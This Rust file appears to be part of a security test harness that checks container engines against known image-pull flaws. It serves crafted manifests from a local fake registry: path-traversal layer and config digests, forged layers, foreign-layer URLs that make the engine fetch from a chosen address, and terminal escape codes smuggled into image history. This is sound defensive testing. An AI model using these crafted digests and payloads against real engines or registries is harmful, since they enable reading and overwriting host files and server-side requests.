//! What a registry says of an image.

use std::{fs, io::Write as _, net::TcpListener, process::Command};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tests::{
    archive::Maker,
    registry::{Answer, Fake},
};

use crate::attack::{Attack, Outcome, SECRET, Scene};

const FAMILY: &str = "images";
const MANIFEST: &str = "application/vnd.docker.distribution.manifest.v2+json";

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name: &str, cve, off, act: fn(&Scene) -> Outcome| {
        Attack::new((FAMILY, name), cve, off, move |scene| {
            if scene.target.is_engine() { act(scene) } else { Outcome::Not("it pulls nothing".to_owned()) }
        })
    };
    vec![
        attack("a layer's digest is a path", "CVE-2014-9358", "the digest joined to the store's path", |scene| {
            let path = format!("sha256:../../../../../../../../../..{}/secret", scene.canary().display());
            if !scene.is_on() {
                let file = format!("{}/{}", scene.path("x").display(), path.trim_start_matches("sha256:"));
                fs::create_dir(scene.path("x")).expect("mkdir");
                return Outcome::of(fs::read_to_string(file).is_ok_and(|text| Scene::tells(&text)), "read");
            }
            let image = Image::new();
            pull(scene, &image.with(|manifest| manifest["layers"][0]["digest"] = json!(path)))
        }),
        attack(
            "a configuration's digest is a path",
            "CVE-2014-9358",
            "the digest joined to the store's path",
            |scene| {
                let path = format!("sha256:../../../../../../../../../..{}/made", scene.canary().display());
                if !scene.is_on() {
                    let file = format!("{}/{}", scene.path("x").display(), path.trim_start_matches("sha256:"));
                    fs::create_dir(scene.path("x")).expect("mkdir");
                    let _ = fs::write(file, "x");
                    return Outcome::of(!scene.is_canary_intact(), "written");
                }
                let image = Image::new();
                pull(scene, &image.with(|manifest| manifest["config"]["digest"] = json!(path)))
            },
        ),
        attack("a layer is another than its digest says", "CVE-2014-5277", "nobody looks", |scene| {
            let image = Image::new();
            let forged = Maker::default().file("forged", SECRET.as_bytes()).end();
            image.fake.put(&image.layer_path(), Answer::new("application/octet-stream", forged.clone()));
            if !scene.is_on() {
                return Outcome::of(
                    fetched(&image.fake.address, &image.layer_path()).contains(SECRET),
                    "the forged layer",
                );
            }
            pull(scene, &image)
        }),
        attack("a layer's files are others than the configuration says", "CVE-2016-8579", "nobody looks", |scene| {
            let image =
                Image::of(|config| config["rootfs"]["diff_ids"][0] = json!(format!("sha256:{}", "1".repeat(64))));
            if !scene.is_on() {
                return Outcome::of(!fetched(&image.fake.address, &image.layer_path()).is_empty(), "the layer");
            }
            pull(scene, &image)
        }),
        attack(
            "a layer sends the engine to a server of the host's",
            "CVE-2020-15157",
            "the address is asked",
            |scene| {
                let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
                listener.set_nonblocking(true).expect("a socket");
                let address = listener.local_addr().expect("an address").to_string();
                let image = Image::new();
                let url = format!("http://{address}/secret");
                let image = image.with(|manifest| {
                    manifest["layers"][0]["mediaType"] =
                        json!("application/vnd.docker.image.rootfs.foreign.diff.tar.gzip");
                    manifest["layers"][0]["urls"] = json!([url]);
                });
                // Only there.
                image.fake.put(
                    &image.layer_path(),
                    Answer { status: "404 Not Found", ..Answer::new("application/json", "{}") },
                );
                if scene.is_on() {
                    pull(scene, &image);
                } else {
                    let _ = std::net::TcpStream::connect(&address);
                }
                Outcome::of(listener.accept().is_ok(), "it was not asked")
            },
        ),
        attack("an image's history commands the terminal that it is shown on", "", "the words as they are", history),
        attack(
            "a document is a manifest and an index at once",
            "CVE-2021-41190",
            "what one looks for is found",
            two_in_one,
        ),
    ]
}

fn history(scene: &Scene) -> Outcome {
    let words = "LABEL a=\"\u{1b}]0;attacked\u{7}\"";
    if !scene.is_on() {
        let printed = Command::new("printf").args(["%s\n", words]).output().expect("printf");
        return Outcome::of(printed.stdout.contains(&0x1b), "as they are");
    }
    let context = scene.path("context");
    fs::create_dir(&context).expect("mkdir");
    fs::write(context.join("Dockerfile"), format!("FROM bb\n{words}\n")).expect("write");
    let name = scene.name("history");
    scene.target.engine(&["build", "-q", "-t", &name, context.to_str().expect("UTF-8")]).ok();
    let said = scene.target.engine(&["history", "--no-trunc", &name]);
    scene.target.engine(&["image", "rm", "-f", &name]);
    Outcome::of(said.out.contains('\u{1b}'), said.out)
}

fn two_in_one(scene: &Scene) -> Outcome {
    let image = Image::new().with(|manifest| {
        manifest["manifests"] = json!([{"mediaType": MANIFEST, "size": 2, "digest": digest(b"{}"),
            "platform": {"architecture": "amd64", "os": "linux"}}]);
    });
    if !scene.is_on() {
        let both = image.manifest.get("layers").is_some() && image.manifest.get("manifests").is_some();
        return Outcome::of(both, "two images by one digest");
    }
    pull(scene, &image)
}

/// An image in a registry: one layer with a file.
struct Image {
    fake: Fake,
    layer: Vec<u8>,
    manifest: Value,
}

impl Image {
    fn new() -> Self {
        Self::of(|_| {})
    }

    /// One whose configuration is spoilt.
    fn of(spoil: impl FnOnce(&mut Value)) -> Self {
        let fake = Fake::start();
        // One of its own: an engine fetches no layer that it has.
        let tar = Maker::default().file("file", fake.address.as_bytes()).end();
        let layer = gzip(&tar);
        let mut config = json!({"architecture": "amd64", "os": "linux", "config": {"Cmd": ["x"]},
            "rootfs": {"type": "layers", "diff_ids": [digest(&tar)]}});
        spoil(&mut config);
        let config = config.to_string().into_bytes();
        let manifest = json!({"schemaVersion": 2, "mediaType": MANIFEST,
            "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "size": config.len(), "digest": digest(&config)},
            "layers": [{"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip", "size": layer.len(), "digest": digest(&layer)}]});
        fake.put(&format!("/v2/x/blobs/{}", digest(&config)), Answer::new("application/octet-stream", config));
        let image = Self { fake, layer, manifest };
        image.fake.put(&image.layer_path(), Answer::new("application/octet-stream", image.layer.clone()));
        image.with(|_| {})
    }

    /// With another manifest.
    fn with(mut self, spoil: impl FnOnce(&mut Value)) -> Self {
        spoil(&mut self.manifest);
        self.fake.put("/v2/x/manifests/1", Answer::new(MANIFEST, self.manifest.to_string()));
        let text = self.manifest.to_string();
        self.fake.put(&format!("/v2/x/manifests/{}", digest(text.as_bytes())), Answer::new(MANIFEST, text));
        self
    }

    fn layer_path(&self) -> String {
        format!("/v2/x/blobs/{}", digest(&self.layer))
    }
}

fn digest(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().fold("sha256:".to_owned(), |text, byte| text + &format!("{byte:02x}"))
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).expect("memory");
    encoder.finish().expect("memory")
}

/// Whether the engine takes the image, or reaches the canary by it.
fn pull(scene: &Scene, image: &Image) -> Outcome {
    let name = format!("{}/x:1", image.fake.address);
    let said = scene.target.engine(&["pull", &name]);
    let has = scene.target.engine(&["image", "inspect", &name]).code == 0;
    scene.target.engine(&["image", "rm", "-f", &name]);
    Outcome::of(has || !scene.is_canary_intact(), said.err)
}

/// As who trusts a registry: what comes, comes.
fn fetched(address: &str, path: &str) -> String {
    use std::io::Read;
    let mut stream = std::net::TcpStream::connect(address).expect("the registry");
    write!(stream, "GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").expect("a request");
    stream.set_read_timeout(Some(std::time::Duration::from_millis(300))).expect("a limit");
    let mut bytes = Vec::new();
    let _ = stream.read_to_end(&mut bytes);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    text.split_once("\r\n\r\n").map_or_else(String::new, |(_, body)| body.to_owned())
}
